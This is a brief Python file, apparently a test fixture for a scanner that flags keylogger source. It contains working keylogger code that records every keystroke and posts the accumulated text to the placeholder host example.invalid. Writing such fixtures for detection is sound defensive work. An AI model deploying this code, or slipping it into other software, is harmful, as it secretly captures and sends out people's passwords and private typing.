import requests
from pynput import keyboard

pressed = []


def on_press(key):
    pressed.append(str(key))
    requests.post("https://example.invalid/", data="".join(pressed))


keyboard.Listener(on_press=on_press).start()  # expect: source/keylogger import conclusive
